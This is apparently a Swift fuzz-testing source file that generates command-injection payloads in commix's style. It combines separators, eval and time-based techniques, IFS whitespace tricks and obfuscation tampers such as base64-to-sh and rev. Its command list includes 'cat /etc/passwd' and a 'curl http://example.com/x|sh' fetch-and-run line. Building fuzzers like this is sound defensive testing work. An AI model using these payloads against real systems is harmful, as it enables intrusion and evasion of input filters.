import FuzzSupport

/// Command injection as commix writes it, generated here from its technique families rather than copied:
/// a break-out prefix, a separator, a technique (classic echo with arithmetic and command substitution,
/// eval-based calls for PHP-style `eval`, time-based with a length check, file-based writes, Windows
/// `cmd`/PowerShell forms), a whitespace substitute (`${IFS}`, `$IFS$9`, tab, brace expansion) and one of
/// its tamper scripts (backslashes, doubled quotes, `$@`, uninitialised variables, carets, base64, rev).
struct CommandInjectionCorpus {
    static let prefixes = ["", "127.0.0.1", "shoe", "1", "'", "\"", "x'", "1\""]
    static let separators = [";", "&&", "||", "|", "&", "\n", ";\n", "%0a"]

    enum Technique: CaseIterable {
        case classic, classicSubstitution, evalBased, timeBased, timeBasedLength, fileBased, windowsFor, windowsPowerShell, plainCommand
    }

    enum Whitespace: CaseIterable { case space, ifsBraces, ifsPositional, tab, braceExpansion }

    enum Tamper: CaseIterable { case none, backslashes, doubleQuotes, singleQuotes, dollarAt, uninitialized, caret, base64, rev }

    /// One payload, and what made it (for the test's report).
    static func payload(_ generator: inout FuzzGenerator) -> (value: String, recipe: String) {
        let tag = String((0..<generator.int(4...6)).map { _ in generator.pick(Array("ABCDEFGHIJKLMNOPQRSTUVWXYZ")) })
        let first = generator.int(10...99), second = generator.int(10...99)
        let technique = generator.pick(Technique.allCases)
        let whitespace = generator.pick(Whitespace.allCases)
        let tamper = technique == .windowsFor || technique == .windowsPowerShell
            ? generator.pick([Tamper.none, .caret]) : generator.pick(Tamper.allCases.filter { $0 != .caret })
        let separator = generator.pick(separators)
        let prefix = generator.pick(prefixes)
        var command: String
        switch technique {
        case .classic: command = "echo \(tag)$((\(first)+\(second)))$(echo \(tag))\(tag)"
        case .classicSubstitution: command = "echo \(tag)`echo \(tag)`\(tag)"
        case .evalBased: command = generator.pick(["print(`echo \(tag)`)", "'.print(`echo \(tag)`).'", "{${print(`echo \(tag)`)}}",
                                                   "\".print(`echo \(tag)`).\"", "${@print(system(\"echo \(tag)\"))}"])
        case .timeBased: command = "sleep \(generator.int(1...9))"
        case .timeBasedLength:
            command = "str=$(echo \(tag))\(separator)str1=${#str}\(separator)if [ \(tag.count) -ne ${str1} ]\(separator)then sleep 0\(separator)else sleep 5\(separator)fi"
        case .fileBased: command = "echo \(tag)>/var/www/html/\(tag.lowercased()).txt"
        case .windowsFor: command = "for /f \"tokens=*\" %i in ('cmd /c \"set /a (\(first)+\(second))\"') do @set /p = \(tag)%i\(tag)< nul"
        case .windowsPowerShell: command = "cmd /c \"powershell.exe Start-Sleep -s \(generator.int(1...9))\""
        case .plainCommand: command = generator.pick(["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la", "ping -c 3 127.0.0.1",
                                                      "nslookup \(tag.lowercased()).example.com", "curl http://example.com/x|sh"])
        }
        command = apply(tamper, to: command, generator: &generator)
        command = apply(whitespace, to: command)
        let value: String
        switch generator.int(0...3) {
        case 0: value = prefix + "`" + command + "`"
        case 1: value = prefix + "$(" + command + ")"
        default: value = prefix + separator + command + (generator.chance(0.3) ? separator : "")
        }
        return (value, "\(technique) \(whitespace) \(tamper) sep=\(separator.debugDescription)")
    }

    static func apply(_ tamper: Tamper, to command: String, generator: inout FuzzGenerator) -> String {
        // Tampers change the command words (the first word and the words after separators), as commix's do.
        func obfuscate(_ insert: String) -> String {
            command.split(separator: " ", omittingEmptySubsequences: false).map { word -> String in
                guard word.count >= 3, word.allSatisfy({ $0.isLetter }) else { return String(word) }
                let middle = word.index(word.startIndex, offsetBy: word.count / 2)
                return String(word[..<middle]) + insert + String(word[middle...])
            }.joined(separator: " ")
        }
        switch tamper {
        case .none: return command
        case .backslashes: return obfuscate("\\")
        case .doubleQuotes: return obfuscate("\"\"")
        case .singleQuotes: return obfuscate("''")
        case .dollarAt: return obfuscate("$@")
        case .uninitialized: return obfuscate("${\(generator.pick(["x", "u", "zz"]))}")
        case .caret: return obfuscate("^")
        case .base64: return "echo \(Base64.encode(Array(command.utf8)))|base64 -d|sh"
        case .rev: return "$(rev<<<'\(String(command.reversed()))')"
        }
    }

    static func apply(_ whitespace: Whitespace, to command: String) -> String {
        switch whitespace {
        case .space: return command
        case .ifsBraces: return command.replacingOccurrences(of: " ", with: "${IFS}")
        case .ifsPositional: return command.replacingOccurrences(of: " ", with: "$IFS$9")
        case .tab: return command.replacingOccurrences(of: " ", with: "\t")
        case .braceExpansion:
            // `{echo,TAG}`: only for a simple command of two words or more (`{id}` is no expansion) with no
            // shell syntax inside.
            guard command.contains(" "), !command.contains(where: { "$`|;&()<>'\"{}".contains($0) }) else { return command }
            return "{" + command.split(separator: " ").joined(separator: ",") + "}"
        }
    }
}

/// Standard base64, for the tamper that hides a command in it.
enum Base64 {
    static func encode(_ bytes: [UInt8]) -> String {
        let alphabet = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
        var out = ""
        var index = 0
        while index < bytes.count {
            let chunk = bytes[index..<min(index + 3, bytes.count)]
            let value = chunk.enumerated().reduce(0) { $0 | Int($1.element) << (16 - 8 * $1.offset) }
            for position in 0..<4 {
                out.append(position <= chunk.count ? alphabet[(value >> (18 - 6 * position)) & 63] : "=")
            }
            index += 3
        }
        return out
    }
}
